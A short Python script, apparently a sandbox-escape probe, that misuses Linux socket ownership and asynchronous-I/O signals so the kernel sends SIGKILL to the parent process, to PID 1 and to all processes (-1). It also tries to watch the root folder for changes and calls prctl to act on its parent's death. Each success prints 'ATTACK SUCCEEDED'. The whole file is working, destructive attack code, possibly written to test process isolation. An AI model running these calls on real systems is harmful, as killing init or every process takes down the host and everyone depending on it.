"""Has the kernel send signals for it: to the owner of a socket, and at a change of a folder."""

import ctypes
import fcntl
import os
import signal
import socket

for pid in {os.getppid(), 1, -1} - {0, os.getpid()}:
    ours, theirs = socket.socketpair()
    try:
        fcntl.fcntl(ours, fcntl.F_SETOWN, pid)
        fcntl.fcntl(ours, 10, signal.SIGKILL)
        fcntl.fcntl(ours, fcntl.F_SETFL, os.O_ASYNC)
        theirs.send(b"x")
        print("ATTACK SUCCEEDED: a signal on input for", pid)
    except OSError:
        continue
try:
    fcntl.fcntl(os.open("/", os.O_RDONLY), fcntl.F_NOTIFY, fcntl.DN_MODIFY)
    print("ATTACK SUCCEEDED: watches the root folder")
except OSError:
    pass
if ctypes.CDLL(None).prctl(1, 0, 0, 0, 0) == 0:
    print("ATTACK SUCCEEDED: outlives its parent")
